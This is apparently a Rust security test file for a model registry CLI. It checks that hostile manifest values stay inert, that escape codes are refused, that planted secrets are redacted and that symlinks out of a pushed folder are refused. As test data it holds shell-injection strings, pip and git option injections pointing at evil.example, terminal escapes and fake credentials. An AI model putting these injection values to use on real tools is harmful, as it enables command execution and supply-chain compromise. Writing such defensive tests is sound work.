//! Hostile content never runs and never leaks (issue 10; the attacks of
//! `reviews/redteam-turn2.md`, D-numbers in the test names): reproduction kits built from
//! hostile entries are inert, every recorded text follows the rules of docs/format.md §3.4,
//! secrets planted through every input path reach no object of the bucket, a pushed folder
//! does not follow symbolic links out of itself, and `shelf serve` is not trivial to wedge.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::support::{Backend, all_keys, assert_code, block_on, json, run, stderr, write_file};
use object_store::ObjectStore;
use object_store::ObjectStoreExt as _;
use serde_json::{Value, json};
use shelf_format::{Digest, Event, LogEntry, ModelName, Timestamp, VersionManifest, keys};

// ---------------------------------------------------------------------------------------
// Helpers

/// Every object of the registry, with its bytes.
async fn all_objects(store: &Arc<dyn ObjectStore>) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for key in all_keys(store).await {
        let bytes = store
            .get(&object_store::path::Path::from(key.as_str()))
            .await
            .unwrap()
            .bytes()
            .await
            .unwrap();
        out.push((key, bytes.to_vec()));
    }
    out
}

/// Write entry 1 of `model` by hand: a `register` event of the manifest made of `fields`
/// (over a minimal valid manifest), with a valid chain, straight into the store.
async fn hand_written(store: &Arc<dyn ObjectStore>, model: &str, fields: Value) {
    let mut manifest = json!({
        "format": 1,
        "kind": "manifest",
        "model": model,
        "version": 1,
        "created_at": "2026-11-27T21:09:03.123Z",
        "created_by": "ci@example.com",
    });
    for (k, v) in fields.as_object().unwrap() {
        manifest[k] = v.clone();
    }
    let manifest: VersionManifest = serde_json::from_value(manifest).unwrap();
    let entry = LogEntry::new(
        ModelName::new(model).unwrap(),
        1,
        None,
        Timestamp::from_millis(1_796_000_000_000).unwrap(),
        "ci@example.com".into(),
        None,
        1,
        Event::Register {
            version: 1,
            content_id: manifest.content_id().unwrap(),
            manifest: Box::new(manifest),
        },
    );
    let bytes = shelf_format::encode(&entry).unwrap();
    let key = keys::log_key(&ModelName::new(model).unwrap(), 1);
    store
        .put(&object_store::path::Path::from(key.as_str()), bytes.into())
        .await
        .unwrap();
}

/// Store `bytes` as a blob; its digest.
async fn put_blob(store: &Arc<dyn ObjectStore>, bytes: &[u8]) -> Digest {
    let digest = Digest::of(bytes);
    store
        .put(
            &object_store::path::Path::from(keys::blob_key(&digest).as_str()),
            bytes.to_vec().into(),
        )
        .await
        .unwrap();
    digest
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.com")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.com")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// Run a kit script with `sh` in `dir`, with a clean, scratch-only environment.
fn sh(dir: &Path, script: &str, scratch: &Path) -> Output {
    Command::new("sh")
        .arg(script)
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap())
        .env("HOME", scratch)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_TERMINAL_PROMPT", "0")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// `sh -n`: the script parses.
fn parses(path: &Path) {
    let out = Command::new("sh").arg("-n").arg(path).output().unwrap();
    assert!(
        out.status.success(),
        "sh -n {}: {}",
        path.display(),
        stderr(&out)
    );
}

/// The names in `dir` (a sentinel folder hostile values try to write into).
fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// A local registry made with `shelf init`.
fn local_registry() -> Backend {
    let backend = Backend::local();
    assert_code(&run(backend.shelf().arg("init")), 0);
    backend
}

// ---------------------------------------------------------------------------------------
// D1, D17: `shelf reproduce` never runs recorded values

#[test]
fn d1_a_dataset_uri_with_a_newline_is_refused_at_push_and_a_kit_keeps_uris_as_data() {
    let backend = local_registry();
    let scratch = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let out_dir = outside.path().display().to_string();
    let file = write_file(&scratch.path().join("m.bin"), b"w");

    // The report's reproduction: refused, exit 2, nothing written.
    let before = block_on(all_keys(&backend.store()));
    let hostile = format!("train=./nonexistent\ntouch {out_dir}/pwned-legit-uri\n#");
    let out = run(backend
        .shelf()
        .args(["push", "m"])
        .arg(&file)
        .args(["--no-env", "--no-code", "--command", "python train.py"])
        .arg(format!("--dataset={hostile}")));
    assert_code(&out, 2);
    let err = stderr(&out);
    assert!(
        err.contains("invalid datasets.train")
            && err.contains(r"\ntouch")
            && err.contains("single line"),
        "{err}"
    );
    assert_eq!(
        block_on(all_keys(&backend.store())),
        before,
        "nothing written"
    );

    // A URI full of shell syntax on one line is accepted, and stays data in the kit.
    let uri = format!(
        "./x;touch {out_dir}/pwned-semicolon$(touch {out_dir}/pwned-subst)`touch {out_dir}/pwned-backtick`'"
    );
    let out = run(backend
        .shelf()
        .args(["push", "m"])
        .arg(&file)
        .args(["--no-env", "--no-code", "--command", "true"])
        .arg(format!("--dataset=train={uri}")));
    assert_code(&out, 0);
    let kit = scratch.path().join("kit");
    assert_code(
        &run(backend.shelf().args(["reproduce", "m@1", "-o"]).arg(&kit)),
        0,
    );
    for script in ["checkout.sh", "datasets.sh", "train.sh"] {
        parses(&kit.join(script));
    }
    let out = sh(&kit, "datasets.sh", scratch.path());
    assert_code(&out, 0);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(&format!("fetch {uri} into data/train")),
        "the URI is echoed as text: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(names_in(outside.path()), Vec::<String>::new());
}

/// Manifests no Shelf writer would write: each refuses the kit (exit 1), naming the field
/// and the value, and writes nothing.
#[test]
fn d1_d17_a_kit_of_a_hostile_entry_is_refused_naming_the_value() {
    let backend = local_registry();
    let store = backend.store();
    let scratch = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let o = outside.path().display().to_string();
    let commit = "9f2c1e7d5b3a4c6e8f0a1b2c3d4e5f6a7b8c9d0e";
    let cases: Vec<(&str, Value, String)> = vec![
        (
            "role",
            json!({"datasets": [{"role": format!("train\ntouch {o}/pwned\n#"), "uri": "./x", "verified": false}]}),
            "invalid dataset role".into(),
        ),
        (
            "uri",
            json!({"datasets": [{"role": "train", "uri": format!("./x\ntouch {o}/pwned\n#"), "verified": false}]}),
            "invalid datasets.train.uri".into(),
        ),
        (
            "version-newline",
            json!({"environment": {"packages": {"numpy": "1.0\n--extra-index-url http://evil.example/simple"}}}),
            "invalid environment.packages.numpy".into(),
        ),
        (
            "version-option",
            json!({"environment": {"packages": {"numpy": "1.0 --global-option=--x"}}}),
            "must not hold a pip option".into(),
        ),
        (
            "name-option",
            json!({"environment": {"packages": {"-e git+http://evil.example/x": "1"}}}),
            "invalid package name".into(),
        ),
        (
            "name-space",
            json!({"environment": {"packages": {"numpy --index-url": "1"}}}),
            "invalid package name".into(),
        ),
        (
            "name-html",
            json!({"environment": {"packages": {"<img src=y onerror=x>": "1"}}}),
            "without white space".into(),
        ),
        (
            "python",
            json!({"environment": {"python": format!("3.11\ntouch {o}/pwned"), "packages": {"numpy": "1"}}}),
            "invalid environment.python".into(),
        ),
        (
            "repo-option",
            json!({"code": {"repository": format!("--upload-pack=touch {o}/pwned;"), "commit": commit, "dirty": false}}),
            "invalid code.repository".into(),
        ),
        (
            "repo-ext",
            json!({"code": {"repository": format!("ext::sh -c touch% {o}/pwned"), "commit": commit, "dirty": false}}),
            "invalid code.repository".into(),
        ),
        (
            "commit-option",
            json!({"code": {"repository": "https://github.com/acme/fraud.git", "commit": "--orphan=x", "dirty": false}}),
            "invalid code.commit".into(),
        ),
        (
            "commit-subst",
            json!({"code": {"repository": "https://github.com/acme/fraud.git", "commit": format!("$(touch {o}/pwned)"), "dirty": false}}),
            "invalid code.commit".into(),
        ),
        (
            "command-newline",
            json!({"run": {"command": format!("python t.py\ntouch {o}/pwned")}}),
            "invalid run.command".into(),
        ),
        (
            "command-escape",
            json!({"run": {"command": "python t.py\u{1b}]0;title\u{7}"}}),
            "invalid run.command".into(),
        ),
        (
            "actor-escape",
            json!({"created_by": "evil\u{1b}[2J"}),
            "invalid created_by".into(),
        ),
        (
            "url-newline",
            json!({"run": {"url": "https://x\n# fake heading"}}),
            "invalid run.url".into(),
        ),
    ];
    block_on(async {
        for (name, fields, _) in &cases {
            hand_written(&store, &format!("bad-{name}"), fields.clone()).await;
        }
    });
    for (name, _, says) in &cases {
        let kit = scratch.path().join(format!("kit-{name}"));
        let out = run(backend
            .shelf()
            .args(["reproduce", &format!("bad-{name}@1"), "-o"])
            .arg(&kit));
        assert_code(&out, 1);
        let err = stderr(&out);
        assert!(
            err.contains("refusing to write a reproduction kit of") && err.contains(says.as_str()),
            "{name}: {err}"
        );
        assert!(
            !err.contains('\u{1b}'),
            "{name}: the message is escaped: {err}"
        );
        assert!(!kit.exists(), "{name}: nothing written");
    }
    assert_eq!(names_in(outside.path()), Vec::<String>::new());
}

/// Entries a writer could have made, full of shell syntax: the kit is written, every script
/// parses, and running them all in a scratch folder changes nothing outside it.
#[test]
fn d1_d17_kits_of_tricky_entries_run_in_a_scratch_folder_and_touch_nothing_outside() {
    let backend = local_registry();
    let store = backend.store();
    let scratch = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let o = outside.path().display().to_string();
    // A real repository to clone, by its path.
    let repo = scratch.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("train.py"), "print('train')\n").unwrap();
    git(&repo, &["add", "train.py"]);
    git(&repo, &["commit", "-q", "-m", "one"]);
    let commit = git(&repo, &["rev-parse", "HEAD"]);
    // A "lock file" recorded under the name of a kit script, holding a script.
    let lock = format!("#!/bin/sh\ntouch {o}/pwned-lockfile\n");
    let lock_digest = block_on(put_blob(&store, lock.as_bytes()));
    block_on(async {
        hand_written(
            &store,
            "tricky",
            json!({
                "code": {"repository": format!("file://{}", repo.display()), "commit": commit, "dirty": true,
                         "diff_sha256": Digest::of(b"diff").to_string()},
                "datasets": [
                    {"role": "train", "uri": format!("./x';touch {o}/pwned-quote;'$(touch {o}/pwned-subst)"), "verified": false},
                    {"role": "test", "uri": format!("s3://b/`touch {o}/pwned-backtick`"), "verified": true,
                     "digest": Digest::of(b"t").to_string(), "size": 1}
                ],
                "environment": {"python": "3.11.7 $(touch x)", "packages": {
                    "numpy": "1.26.4", "torch": "https://download.pytorch.org/whl/torch-2.3.0.whl",
                    "scipy": ">=1.11", "rich": ""}},
                "params": {"note": format!("$(touch {o}/pwned-param)\n'\"")},
                "run": {"command": "echo trained > ../trained.txt", "url": format!("https://mlflow/$(touch {o}/pwned-url)"),
                        "experiment": "`touch x`"},
                "metrics": {"auc": 0.9}
            }),
        )
        .await;
        hand_written(
            &store,
            "lockfile",
            json!({
                "environment": {"lock_file": {"name": "checkout.sh", "size": lock.len(), "digest": lock_digest.to_string()}},
                "datasets": [{"role": "train", "uri": "./data", "verified": false}]
            }),
        )
        .await;
    });

    // The tricky entry: everything runs; only the recorded training command is code.
    let kit = scratch.path().join("kit");
    let out = run(backend
        .shelf()
        .args(["reproduce", "tricky@1", "--json", "-o"])
        .arg(&kit));
    assert_code(&out, 0);
    assert_eq!(
        json(&out)["files"],
        json!([
            "checkout.sh",
            "datasets.sh",
            "params.json",
            "requirements.txt",
            "train.sh",
            "REPRODUCE.md"
        ])
    );
    for script in ["checkout.sh", "datasets.sh", "train.sh"] {
        parses(&kit.join(script));
    }
    let checkout = std::fs::read_to_string(kit.join("checkout.sh")).unwrap();
    assert!(
        checkout.contains(&format!("git clone -- file://{} src", repo.display())),
        "{checkout}"
    );
    let requirements = std::fs::read_to_string(kit.join("requirements.txt")).unwrap();
    assert_eq!(
        requirements.lines().skip(1).collect::<Vec<_>>(),
        [
            "numpy==1.26.4",
            "rich",
            "scipy>=1.11",
            "torch @ https://download.pytorch.org/whl/torch-2.3.0.whl"
        ]
    );
    for script in ["checkout.sh", "datasets.sh", "train.sh"] {
        let out = sh(&kit, script, scratch.path());
        assert_code(&out, 0);
    }
    assert_eq!(
        git(&kit.join("src"), &["rev-parse", "HEAD"]),
        commit,
        "checked out at the commit"
    );
    assert_eq!(
        std::fs::read_to_string(kit.join("trained.txt")).unwrap(),
        "trained\n"
    );

    // The lock file named checkout.sh: stored under a name Shelf fixes, the script stays
    // Shelf's.
    let kit = scratch.path().join("kit-lock");
    let out = run(backend
        .shelf()
        .args(["reproduce", "lockfile@1", "--json", "-o"])
        .arg(&kit));
    assert_code(&out, 0);
    assert_eq!(
        json(&out)["files"],
        json!([
            "checkout.sh",
            "datasets.sh",
            "params.json",
            "environment.lock",
            "train.sh",
            "REPRODUCE.md"
        ])
    );
    assert_eq!(
        std::fs::read_to_string(kit.join("environment.lock")).unwrap(),
        lock
    );
    let checkout = std::fs::read_to_string(kit.join("checkout.sh")).unwrap();
    assert!(checkout.contains("no code was recorded"), "{checkout}");
    for script in ["checkout.sh", "datasets.sh", "train.sh"] {
        parses(&kit.join(script));
        // checkout.sh and train.sh say what is missing and exit 1.
        let out = sh(&kit, script, scratch.path());
        assert_eq!(
            out.status.code(),
            Some(if script == "datasets.sh" { 0 } else { 1 })
        );
    }
    assert_eq!(names_in(outside.path()), Vec::<String>::new());
}

// ---------------------------------------------------------------------------------------
// D6: every recorded text follows its rule, at write time

#[test]
fn d6_d5_texts_that_break_their_rule_are_refused_naming_the_value_and_nothing_is_written() {
    let backend = local_registry();
    let dir = tempfile::tempdir().unwrap();
    let file = write_file(&dir.path().join("f.bin"), b"f");
    assert_code(
        &run(backend
            .shelf()
            .args(["push", "good"])
            .arg(&file)
            .args(["--no-env", "--no-code"])),
        0,
    );
    let store = backend.store();
    let before = block_on(all_keys(&store));
    let push = |extra: &[&str]| {
        let mut cmd = backend.shelf();
        cmd.args(["push", "good"])
            .arg(&file)
            .args(["--no-env", "--no-code"])
            .args(extra);
        cmd
    };
    let long_actor = "a".repeat(10 * 1024);
    let cases: Vec<(Command, &str)> = vec![
        (
            push(&["--command", "python t.py\u{1b}[2J\u{1b}]0;title\u{7}"]),
            r#"invalid run.command "python t.py\u{1b}[2J"#,
        ),
        (push(&["--run-url", "https://x\ny"]), "invalid run.url"),
        (
            push(&["--experiment", "exp\u{1b}[31m"]),
            "invalid run.experiment",
        ),
        (push(&["--description", "safe model\rEVIL!"]), "U+000D"),
        (
            push(&["--description", "abc\u{202e}fed"]),
            "bidirectional controls (found U+202E",
        ),
        (push(&["--label", "team=a\nb"]), "invalid labels.team"),
        (push(&["--param", "lr=1\u{7}"]), "invalid params.lr"),
        (
            push(&["--dataset", "train=./x\ny"]),
            "invalid datasets.train",
        ),
        (
            push(&["--author", "evil\u{1b}[31m\nFAKE LINE"]),
            "invalid author",
        ),
        (
            push(&["--author", &long_actor]),
            "author is at most 256 bytes",
        ),
        (
            {
                let mut c = backend.shelf();
                c.env("SHELF_AUTHOR", "evil\u{1b}[31m\nFAKE LINE").args([
                    "alias",
                    "set",
                    "good@1",
                    "production",
                    "--reason",
                    "x",
                ]);
                c
            },
            r#"invalid actor "evil\u{1b}[31m\nFAKE LINE""#,
        ),
        (
            {
                let mut c = backend.shelf();
                c.env("SHELF_AUTHOR", &long_actor).args([
                    "status",
                    "good@1",
                    "experimental",
                    "--reason",
                    "x",
                ]);
                c
            },
            "actor is at most 256 bytes",
        ),
        (
            {
                let mut c = backend.shelf();
                c.args(["status", "good@1", "validated", "--reason", ""]);
                c
            },
            "reason must not be empty or blank",
        ),
        (
            {
                let mut c = backend.shelf();
                c.args(["alias", "set", "good@1", "production", "--reason", "  "]);
                c
            },
            "reason must not be empty or blank",
        ),
        (
            {
                let mut c = backend.shelf();
                c.args([
                    "status",
                    "good@1",
                    "validated",
                    "--reason",
                    "ok\u{1b}[2J\u{1b}]0;pwned\u{7}",
                ]);
                c
            },
            "invalid reason",
        ),
        (
            {
                let mut c = backend.shelf();
                c.args(["tag", "good@1", "ok=fine", "note=a\nb"]);
                c
            },
            "invalid tags.note",
        ),
        (
            {
                let mut c = backend.shelf();
                c.args([
                    "eval",
                    "good@1",
                    "--metric",
                    "auc=0.9",
                    "--dataset",
                    "d\u{1b}[1m",
                ]);
                c
            },
            "invalid dataset",
        ),
        (
            {
                let mut c = backend.shelf();
                c.args(["deploy", "good@1", "--target", "eu\nprod", "--reason", "x"]);
                c
            },
            "invalid target name",
        ),
        (
            {
                let mut c = backend.shelf();
                c.args(["deploy", "good@1", "--target", "eu", "--reason", ""]);
                c
            },
            "reason must not be empty or blank",
        ),
    ];
    for (mut cmd, says) in cases {
        let out = run(&mut cmd);
        assert_code(&out, 2);
        let err = stderr(&out);
        assert!(err.contains(says), "{cmd:?}: {err} should say {says}");
        assert!(
            !err.contains('\u{1b}') && !err.contains('\r'),
            "{cmd:?}: the message shows the value escaped: {err:?}"
        );
        assert_eq!(
            block_on(all_keys(&store)),
            before,
            "{cmd:?}: nothing written"
        );
    }
    // What is fine still is: a multi-line description, unicode, a reason.
    assert_code(
        &run(&mut push(&[
            "--description",
            "line one\nline two\tété 模型",
        ])),
        0,
    );
    assert_code(
        &run(backend.shelf().args([
            "status",
            "good@2",
            "validated",
            "--reason",
            "ok\nsecond line",
        ])),
        0,
    );
}

// ---------------------------------------------------------------------------------------
// D4: one redaction for every text that reaches the bucket

/// (planted secret, what it is): each must be in no object of the bucket.
fn planted() -> Vec<(&'static str, &'static str)> {
    vec![
        ("FLAGdbPassw0rd", "--param db_password"),
        ("FLAGapiToken123456", "--param api_token"),
        (
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYFLAGKEYzz",
            "--param flag_aws_secret_access_key",
        ),
        ("dXNlcjpGTEFHYmFzaWM=", "Authorization: Basic in a param"),
        ("LABELplainPassw0rd", "--label password"),
        ("DESCdsnPassw0rd", "a DSN in the description"),
        ("CMDshortPw", "-p in the command"),
        ("CMDlongPw", "--password in the command"),
        ("RUNURLtoken123", "?token= in the run URL"),
        ("EXPapiKey999", "api_key= in the experiment"),
        ("DATASETdsnPw", "a DSN as a dataset URI"),
        ("FILEdbNestedPw", "db.password in a params file"),
        ("FILEawsSecretKEY", "aws_secret_access_key in a params file"),
        ("FLAGslackHOOKsecret", "a Slack webhook in a params file"),
        (
            "RklMRWJhc2ljQXV0aA==",
            "Authorization: Basic in a params file",
        ),
        (
            "FLAGdiscordHOOK_token",
            "a Discord webhook in a params file",
        ),
        ("987654321012", "a numeric password in a params file"),
        ("LOCKindexPassw0rd", "an index password in the lock file"),
        (
            "ghp_LOCKtokenAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "a token in a lock file URL",
        ),
        (
            "ghp_ACTORmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmm",
            "a token in $SHELF_AUTHOR",
        ),
        ("TAGbearerTOKEN12345", "Bearer in a tag value"),
        ("TAGplainPassw0rd", "a tag under a secret key"),
        ("REASONpassw0rd", "password= in a reason"),
        ("REASONdsnPw", "a DSN in a reason"),
        ("EVALdsPassw0rd", "a DSN as an evaluation dataset"),
        ("ALIASslackFLAG", "a Slack webhook in a reason"),
        ("REASONbasicFLAG", "Authorization: Basic in a reason"),
        ("UNDEPLOYpwFLAG", "-p in a reason"),
        ("ENVsessionTOKEN", "AWS_SESSION_TOKEN in the environment"),
        (
            "ghp_ENVgithubtokenBBBBBBBBBBBBBBBBBBBBBBBB",
            "GITHUB_TOKEN in the environment",
        ),
        ("ENVdatabasePw", "DATABASE_URL in the environment"),
        (
            "ghs_REMOTEtokenCCCCCCCCCCCCCCCCCCCCCCCCCCC",
            "a token in the git remote",
        ),
        ("BRANCHtoken42", "token= in the git branch"),
        ("INITnameToken", "token= in the registry name"),
    ]
}

fn secrets_never_reach_the_bucket(backend: &Backend) {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let shelf = || {
        let mut cmd = backend.shelf();
        cmd.env("AWS_SESSION_TOKEN", "ENVsessionTOKEN")
            .env("GITHUB_TOKEN", "ghp_ENVgithubtokenBBBBBBBBBBBBBBBBBBBBBBBB")
            .env("HF_TOKEN", "hf_ENVhfTOKENDDDDDDDDDDDDDDDDDDDDDDDDD")
            .env("DATABASE_URL", "postgres://u:ENVdatabasePw@db/x")
            .env(
                "SHELF_AUTHOR",
                "ci ghp_ACTORmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmmm",
            );
        cmd
    };
    assert_code(
        &run(shelf().args(["init", "--name", "reg token=INITnameToken"])),
        0,
    );
    write_file(&d.join("model/w.bin"), b"weights");
    let params = write_file(
        &d.join("params.yaml"),
        b"db:\n  password: FILEdbNestedPw\n  host: db.internal\naws_secret_access_key: FILEawsSecretKEY\n\
slack_webhook: https://hooks.slack.com/services/T0001/B0001/FLAGslackHOOKsecret\n\
api:\n  headers:\n    Authorization: \"Basic RklMRWJhc2ljQXV0aA==\"\n\
discord: https://discord.com/api/webhooks/1234/FLAGdiscordHOOK_token\n\
pin:\n  password: 987654321012\nlr: 0.1\n",
    );
    let lock = write_file(
        &d.join("requirements.txt"),
        b"--extra-index-url https://trainer:LOCKindexPassw0rd@pypi.internal/simple\n\
numpy==1.26.4\nprivate-pkg @ https://ghp_LOCKtokenAAAAAAAAAAAAAAAAAAAAAAAAAAAA@git.example.com/p.whl\n",
    );
    let repo = d.join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "exp/token=BRANCHtoken42"]);
    std::fs::write(repo.join("train.py"), "print(1)\n").unwrap();
    git(&repo, &["add", "train.py"]);
    git(&repo, &["commit", "-q", "-m", "one"]);
    git(
        &repo,
        &[
            "remote",
            "add",
            "origin",
            "https://x-access-token:ghs_REMOTEtokenCCCCCCCCCCCCCCCCCCCCCCCCCCC@github.com/acme/fraud.git",
        ],
    );

    let out = run(shelf()
        .args(["push", "secretive"])
        .arg(d.join("model"))
        .args([
            "--param=db_password=FLAGdbPassw0rd",
            "--param=api_token=FLAGapiToken123456",
            "--param=flag_aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYFLAGKEYzz",
            "--param=basic=Authorization: Basic dXNlcjpGTEFHYmFzaWM=",
            "--label=password=LABELplainPassw0rd",
            "--label=team=risk",
            "--description=features from postgres://trainer:DESCdsnPassw0rd@db/features",
            "--command=python train.py -u admin -p CMDshortPw --password CMDlongPw --epochs 3",
            "--run-url=https://mlflow.example.com/#/runs/42?token=RUNURLtoken123&view=m",
            "--experiment=sweep api_key=EXPapiKey999",
            "--dataset=test=postgres://reader:DATASETdsnPw@db/holdout",
            "--json",
        ])
        .arg("--params")
        .arg(&params)
        .arg("--env-lock")
        .arg(&lock)
        .arg("--code-dir")
        .arg(&repo));
    assert_code(&out, 0);
    let pushed = json(&out);
    let mut redacted: Vec<String> = pushed["redacted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect();
    redacted.sort();
    let mut expected = vec![
        "author",
        "code.branch",
        "datasets.test",
        "description",
        "environment.lock_file",
        "environment.packages.private-pkg",
        "labels.password",
        "params.api.headers.Authorization",
        "params.api_token",
        "params.aws_secret_access_key",
        "params.basic",
        "params.db.password",
        "params.db_password",
        "params.discord",
        "params.flag_aws_secret_access_key",
        "params.pin.password",
        "params.slack_webhook",
        "run.command",
        "run.experiment",
        "run.url",
    ];
    expected.sort();
    assert_eq!(redacted, expected, "push names every field it redacted");

    let lifecycle: Vec<Vec<&str>> = vec![
        vec![
            "tag",
            "secretive@1",
            "note=Bearer TAGbearerTOKEN12345",
            "password=TAGplainPassw0rd",
            "--reason",
            "password=REASONpassw0rd",
        ],
        vec![
            "status",
            "secretive@1",
            "validated",
            "--reason",
            "db postgres://u:REASONdsnPw@h/d",
        ],
        vec![
            "eval",
            "secretive@1",
            "--metric",
            "auc=0.9",
            "--dataset",
            "https://u:EVALdsPassw0rd@h/ds",
        ],
        vec![
            "alias",
            "set",
            "secretive@1",
            "production",
            "--reason",
            "notify https://hooks.slack.com/services/T0/B0/ALIASslackFLAG",
        ],
        vec![
            "deploy",
            "secretive@1",
            "--target",
            "eu",
            "--traffic",
            "10",
            "--reason",
            "Authorization: Basic REASONbasicFLAG",
        ],
        vec![
            "undeploy",
            "secretive@1",
            "--target",
            "eu",
            "--reason",
            "mysql -u me -p UNDEPLOYpwFLAG",
        ],
    ];
    for args in lifecycle {
        assert_code(&run(shelf().args(&args)), 0);
    }
    // And reading it all back still works.
    assert_code(&run(shelf().args(["verify"])), 0);

    let objects = block_on(all_objects(&backend.store()));
    assert!(objects.len() > 8, "{} objects", objects.len());
    let mut leaks = Vec::new();
    for (secret, what) in planted() {
        for (key, bytes) in &objects {
            if bytes.windows(secret.len()).any(|w| w == secret.as_bytes()) {
                leaks.push(format!("{what} ({secret}) in {key}"));
            }
        }
    }
    assert!(
        leaks.is_empty(),
        "{} leaks on {}:\n{}",
        leaks.len(),
        backend.name(),
        leaks.join("\n")
    );
    // The redacted texts keep what is not secret.
    let show = json(&run(shelf().args(["show", "secretive@1", "--json"])));
    let m = &show["manifest"];
    assert_eq!(m["params"]["db.host"], "db.internal");
    assert_eq!(m["params"]["pin.password"], "[REDACTED]");
    assert_eq!(m["params"]["basic"], "Authorization: Basic [REDACTED]");
    assert_eq!(m["labels"]["team"], "risk");
    assert_eq!(
        m["run"]["command"],
        "python train.py -u admin -p [REDACTED] --password [REDACTED] --epochs 3"
    );
    assert_eq!(m["code"]["repository"], "https://github.com/acme/fraud.git");
}

#[test]
fn d4_secrets_planted_through_every_input_reach_no_object_on_a_folder_and_on_s3() {
    for backend in Backend::shared() {
        secrets_never_reach_the_bucket(&backend);
    }
}

// ---------------------------------------------------------------------------------------
// D7: symbolic links and special files in a pushed folder

#[cfg(unix)]
#[test]
fn d7_a_pushed_folder_refuses_links_out_of_it_and_names_special_and_hidden_files() {
    use std::os::unix::fs::symlink;
    let backend = local_registry();
    let store = backend.store();
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    write_file(&outside.path().join("secret.txt"), b"outside");
    for i in 0..50 {
        write_file(&outside.path().join(format!("tree/f{i}")), b"x");
    }
    let push = |folder: &Path, extra: &[&str]| {
        run(backend
            .shelf()
            .args(["push", "files"])
            .arg(folder)
            .args(["--no-env", "--no-code", "--json"])
            .args(extra))
    };

    // The report's folder: a link to /etc/passwd, a FIFO, a socket.
    let f = dir.path().join("F");
    write_file(&f.join("ok.bin"), b"ok");
    symlink("/etc/passwd", f.join("passwd-link")).unwrap();
    symlink(outside.path().join("tree"), f.join("doc")).unwrap();
    let ok = Command::new("mkfifo").arg(f.join("fifo")).status().unwrap();
    assert!(ok.success());
    let _socket = std::os::unix::net::UnixListener::bind(f.join("sock")).unwrap();
    write_file(&f.join(".env"), b"LOCAL=1");
    write_file(&f.join("sub/.hidden/x"), b"x");
    // In-tree links are fine.
    symlink("ok.bin", f.join("same.bin")).unwrap();

    let before = block_on(all_keys(&store));
    let out = push(&f, &[]);
    assert_code(&out, 2);
    let err = stderr(&out);
    assert!(
        err.contains("passwd-link -> /etc/passwd")
            && err.contains(&format!("doc -> {}", outside.path().join("tree").display()))
            && err.contains("--follow-symlinks"),
        "{err}"
    );
    assert_eq!(block_on(all_keys(&store)), before, "nothing written");

    // With --follow-symlinks: followed, and said so.
    let out = push(&f, &["--follow-symlinks"]);
    assert_code(&out, 0);
    let pushed = json(&out);
    let paths: Vec<&str> = pushed["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.contains(&"passwd-link") && paths.contains(&"doc/f0"),
        "{paths:?}"
    );
    assert!(
        paths.contains(&"same.bin") && paths.contains(&".env"),
        "{paths:?}"
    );
    let notes: Vec<&str> = pushed["notes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n.as_str().unwrap())
        .collect();
    let note = |word: &str| {
        notes
            .iter()
            .find(|n| n.contains(word))
            .unwrap_or_else(|| panic!("no note about {word}: {notes:?}"))
            .to_string()
    };
    assert!(note("followed symbolic links").contains("passwd-link -> /etc/passwd"));
    let special = note("skipped special files");
    assert!(
        special.contains("fifo (FIFO)") && special.contains("sock (socket)"),
        "{special}"
    );
    let hidden = note("hidden files");
    assert!(
        hidden.contains(".env") && hidden.contains("sub/.hidden/x"),
        "{hidden}"
    );
    // The notes are printed in the human output too.
    let out = run(backend.shelf().args(["push", "files"]).arg(&f).args([
        "--no-env",
        "--no-code",
        "--follow-symlinks",
    ]));
    assert_code(&out, 0);
    assert!(
        stderr(&out).contains("note: skipped special files"),
        "{}",
        stderr(&out)
    );

    // A link loop is refused at once, however it loops.
    let looped = dir.path().join("L");
    write_file(&looped.join("a.bin"), b"a");
    symlink("self", looped.join("self")).unwrap();
    let out = push(&looped, &["--follow-symlinks"]);
    assert_code(&out, 2);
    assert!(
        stderr(&out).contains("self, which cannot be resolved"),
        "{}",
        stderr(&out)
    );
    let up = dir.path().join("U");
    write_file(&up.join("sub/a.bin"), b"a");
    symlink("..", up.join("sub/up")).unwrap();
    let out = push(&up, &["--follow-symlinks"]);
    assert_code(&out, 2);
    assert!(
        stderr(&out).contains("sub/up ->") && stderr(&out).contains("link loop"),
        "{}",
        stderr(&out)
    );
    let root_link = dir.path().join("R");
    write_file(&root_link.join("a.bin"), b"a");
